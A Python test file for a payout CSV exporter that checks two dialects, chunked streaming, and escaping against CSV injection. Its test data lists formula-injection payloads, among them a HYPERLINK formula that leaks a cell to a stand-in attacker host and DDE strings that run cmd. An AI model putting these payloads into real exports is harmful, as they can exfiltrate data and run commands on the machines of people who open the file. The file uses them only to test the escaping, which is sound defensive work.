"""The CSV framework: two dialects that parse back with the csv module, streamed in chunks."""

import csv
import io
import re
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from uitbetaling.csv_export import DIALECTEN, csv_stroom, waarde_str

KOP = ["datum", "omschrijving", "bedrag"]
RIJEN = [
    (date(2026, 11, 2), "Ontvangst; met puntkomma", Decimal("450.00")),
    (date(2026, 11, 3), 'Naam met "aanhalingstekens", en komma', Decimal("-1234.5")),
]


def _lees(data: bytes, dialect) -> list[list[str]]:
    tekst = data.decode("utf-8-sig" if dialect.bom else "utf-8")
    return list(csv.reader(io.StringIO(tekst), delimiter=dialect.scheiding))


def test_excel_nl_has_bom_semicolons_and_decimal_comma():
    d = DIALECTEN["excel_nl"]
    data = b"".join(csv_stroom(kop=KOP, rijen=iter(RIJEN), dialect=d))
    assert data.startswith(b"\xef\xbb\xbf")
    rijen = _lees(data, d)
    assert rijen[0] == KOP
    assert rijen[1] == ["2026-11-02", "Ontvangst; met puntkomma", "450,00"]
    assert rijen[2] == ["2026-11-03", 'Naam met "aanhalingstekens", en komma', "-1234,50"]


def test_plain_has_commas_decimal_point_and_no_bom():
    d = DIALECTEN["plat"]
    data = b"".join(csv_stroom(kop=KOP, rijen=iter(RIJEN), dialect=d))
    assert not data.startswith(b"\xef\xbb\xbf")
    rijen = _lees(data, d)
    assert rijen[1] == ["2026-11-02", "Ontvangst; met puntkomma", "450.00"]
    assert rijen[2][2] == "-1234.50"
    assert Decimal(rijen[2][2]) == Decimal("-1234.50")


def test_rows_are_streamed_lazily_in_bounded_chunks():
    gelezen = 0

    def rijen():
        nonlocal gelezen
        for i in range(50_000):
            gelezen += 1
            yield (date(2026, 1, 1), f"regel {i}", Decimal(i))

    stroom = csv_stroom(kop=KOP, rijen=rijen(), dialect=DIALECTEN["plat"])
    next(stroom)  # the header: no row read yet
    assert gelezen == 0
    eerste = next(stroom)
    assert 65536 <= len(eerste) < 70000  # a chunk of ~64 KB, not the whole file
    assert gelezen < 50_000
    rest = sum(len(c) for c in stroom)
    assert gelezen == 50_000
    assert rest > 0


# --- CSV injection (issue 12 item 13, OWASP "CSV Injection") ----------------------------------------------

FORMULES = [
    '=HYPERLINK("http://aanvaller.example/?"&A1;"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("dialect", ["excel_nl", "plat"])
def test_a_text_cell_that_starts_a_formula_gets_a_leading_quote(dialect):
    d = DIALECTEN[dialect]
    rijen = [(date(2026, 11, 2), tekst, Decimal("-12.50")) for tekst in FORMULES]
    terug = _lees(b"".join(csv_stroom(kop=KOP, rijen=iter(rijen), dialect=d)), d)[1:]
    assert [r[1] for r in terug] == ["'" + t for t in FORMULES]
    # the amount is a typed Decimal, not text: it stays a negative number the spreadsheet imports
    assert {r[2] for r in terug} == {"-12,50" if dialect == "excel_nl" else "-12.50"}


def test_text_that_is_only_a_number_or_starts_harmlessly_is_left_alone():
    d = DIALECTEN["plat"]
    for tekst in ("-5", "+31612345678", "-12,50", "Jansen", "RF18 0000 0000 0000 0001 2345", "x=1", ""):
        assert waarde_str(tekst, d) == tekst
    assert waarde_str(-7, d) == "-7"  # a count is typed too


@given(st.text())
def test_no_text_cell_can_start_a_formula_and_the_original_is_kept(tekst):
    """Property: whatever a payer writes, the cell read back never begins with a formula character unless
    it is only a number, and stripping the one added quote gives the text back."""
    for d in DIALECTEN.values():
        cel = _lees(b"".join(csv_stroom(kop=["t"], rijen=iter([(tekst,)]), dialect=d)), d)
        gelezen = cel[1][0] if len(cel) > 1 and cel[1] else ""
        if gelezen.startswith(("=", "+", "-", "@", "\t", "\r", "\n")):
            assert re.fullmatch(r"[+-]?[0-9]+(?:[.,][0-9]+)?", gelezen)
        assert gelezen.removeprefix("'") == tekst or gelezen == tekst
